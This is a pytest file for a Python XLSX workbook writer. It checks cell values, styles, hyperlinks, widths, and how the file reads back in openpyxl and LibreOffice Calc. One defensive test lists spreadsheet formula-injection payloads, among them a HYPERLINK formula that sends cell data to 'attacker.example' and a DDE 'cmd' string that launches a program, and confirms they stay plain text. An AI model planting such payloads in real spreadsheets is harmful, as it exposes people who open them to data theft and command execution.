"""The one-sheet workbook writer: read back by openpyxl cell by cell, and opened by LibreOffice Calc."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import shutil
import zipfile
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest

from generator.output.xlsx import CellStyle, SimpleSheet
from tests.helpers import convert_with_libreoffice, soffice


def sample_sheet() -> SimpleSheet:
    sheet = SimpleSheet(
        "Caseload", widths=(20, 8, 30, 12), page_header="Confidential & private", frozen_rows=2, filter_row=2
    )
    sheet.append(["Title row"], sheet.style(CellStyle(bold=True, color="9C0006")))
    sheet.append(["Name", "Count", "Plan", "Due"], sheet.style(CellStyle(bold=True)))
    red = sheet.style(CellStyle(fill="FFC7CE"))
    red_date = sheet.style(CellStyle(fill="FFC7CE", date=True))
    link = sheet.style(CellStyle(fill="FFC7CE", color="0563C1", underline=True))
    sheet.append(
        ['Zoë <Nguyễn> & "co"\x0b', 30, "Nguyen, Zoe/Plan 2026.docx", dt.date(2026, 11, 11)],
        [red, red, link, red_date],
        {2: "Nguyen, Zoe/Plan 2026.docx"},
    )
    sheet.append(["Liam O'Brien", None, "", dt.date(2027, 1, 5)], [0, 0, 0, sheet.style(CellStyle(date=True))])
    sheet.append(
        ["Ana", -1.5, 'https://docs.google.com/document/d/abc/edit?a=1&b="2"<', None],
        [0, 0, sheet.style(CellStyle(color="0563C1", underline=True)), 0],
        {2: 'https://docs.google.com/document/d/abc/edit?a=1&b="2"<'},
    )
    return sheet


def test_values_styles_links_and_layout_read_back_with_openpyxl():
    data = sample_sheet().save()
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet.title == "Caseload" and workbook.sheetnames == ["Caseload"]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["Title row", None, None, None],
        ["Name", "Count", "Plan", "Due"],
        ['Zoë <Nguyễn> & "co"', 30, "Nguyen, Zoe/Plan 2026.docx", dt.datetime(2026, 11, 11)],
        ["Liam O'Brien", None, None, dt.datetime(2027, 1, 5)],
        ["Ana", -1.5, 'https://docs.google.com/document/d/abc/edit?a=1&b="2"<', None],
    ]
    assert sheet["A1"].font.b and sheet["A1"].font.color.rgb == "FF9C0006"
    assert sheet["B2"].font.b and not sheet["A3"].font.b
    assert {sheet.cell(3, c).fill.fgColor.rgb for c in range(1, 5)} == {"FFFFC7CE"}
    assert sheet["A4"].fill.fill_type is None
    assert sheet["D3"].number_format == sheet["D4"].number_format == "yyyy-mm-dd"
    assert sheet["B3"].number_format == "General"
    # a relative link as Excel writes one (backslashes, spaces escaped); Calc reads it as the folder's file
    assert sheet["C3"].hyperlink.target == "Nguyen,%20Zoe\\Plan%202026.docx" and sheet["C3"].font.underline == "single"
    assert sheet["C5"].hyperlink.target == "https://docs.google.com/document/d/abc/edit?a=1&b=%222%22%3C"
    assert sheet["C4"].hyperlink is None
    assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref == "A2:D5"
    assert sheet.oddHeader.center.text == "Confidential && private"  # "&&" is how a header prints one "&"
    # widths as Excel's Column Width dialog shows them: the file adds the cell padding (5 px of 7, in 1/256)
    assert [sheet.column_dimensions[c].width for c in "ABCD"] == [w + 182 / 256 for w in (20, 8, 30, 12)]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # Excel keeps a filter's range under a hidden name too
        assert (
            '<definedName name="_xlnm._FilterDatabase" localSheetId="0" hidden="1">Caseload!$A$2:$D$5</definedName>'
        ) in archive.read("xl/workbook.xml").decode()


def test_the_same_rows_give_the_same_bytes():
    assert sample_sheet().save() == sample_sheet().save()


def test_every_part_is_well_formed_xml():
    from lxml import etree

    with zipfile.ZipFile(io.BytesIO(sample_sheet().save())) as archive:
        for name in archive.namelist():
            etree.fromstring(archive.read(name))  # raises on anything malformed


def test_an_empty_sheet_and_odd_values_still_make_a_workbook():
    sheet = SimpleSheet("Caseload")
    sheet.append(
        [float("nan"), True, dt.datetime(2026, 1, 2, 12, 0), "\x00\x01text\ufffe"],
        [0, 0, sheet.style(CellStyle(date=True)), 0],
    )
    cells = [c.value for c in openpyxl.load_workbook(io.BytesIO(sheet.save())).active[1]]
    assert cells == ["nan", True, dt.datetime(2026, 1, 2, 12, 0), "text"]
    assert openpyxl.load_workbook(io.BytesIO(SimpleSheet("Empty").save())).active.max_row == 1


@pytest.mark.skipif(soffice() is None or not shutil.which("pdftotext"), reason="LibreOffice is not installed")
def test_libreoffice_calc_opens_it_and_shows_what_was_written(tmp_path: Path):
    path = tmp_path / "sheet.xlsx"
    path.write_bytes(sample_sheet().save())
    (converted,) = convert_with_libreoffice([path], tmp_path / "csv", target="csv:Text - txt - csv (StarCalc):44,34,76")
    if not converted.exists():
        pytest.skip("this LibreOffice has no Calc (libreoffice-calc-nogui) to open spreadsheets")
    rows = list(csv.reader(converted.read_text(encoding="utf-8").splitlines()))
    assert rows == [
        ["Title row", "", "", ""],
        ["Name", "Count", "Plan", "Due"],
        ['Zoë <Nguyễn> & "co"', "30", "Nguyen, Zoe/Plan 2026.docx", "2026-11-11"],
        ["Liam O'Brien", "", "", "2027-01-05"],
        ["Ana", "-1.5", 'https://docs.google.com/document/d/abc/edit?a=1&b="2"<', ""],
    ]
    (page,) = convert_with_libreoffice([path], tmp_path / "html", target="html")
    links = re.findall(r'href="([^"]+)"', page.read_text(encoding="utf-8"))  # where Calc takes a click
    assert [unquote(link) for link in links if link.startswith("file:")] == [
        "file://" + str(tmp_path / "Nguyen, Zoe/Plan 2026.docx")
    ]


def test_text_that_looks_like_a_formula_a_number_or_a_link_stays_text():
    payloads = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(1)"]
    sheet = SimpleSheet("Caseload")
    sheet.append([*payloads, "http://example.org/", "0042"])
    data = sheet.save()
    cells = openpyxl.load_workbook(io.BytesIO(data)).active[1]
    assert [c.value for c in cells] == [*payloads, "http://example.org/", "0042"]
    assert all(c.data_type == "s" and c.hyperlink is None for c in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_links_excel_cannot_hold_stay_text_and_a_path_keeps_its_percent_and_hash():
    sheet = SimpleSheet("Caseload")
    too_long = "https://docs.google.com/document/d/" + "x" * 2100
    sheet.append(["100% #1/Plan.docx", too_long], 0, {0: "100% #1/Plan.docx", 1: too_long})
    cells = openpyxl.load_workbook(io.BytesIO(sheet.save())).active[1]
    assert cells[0].hyperlink.target == "100%25%20%231\\Plan.docx"
    assert cells[1].value == too_long and cells[1].hyperlink is None
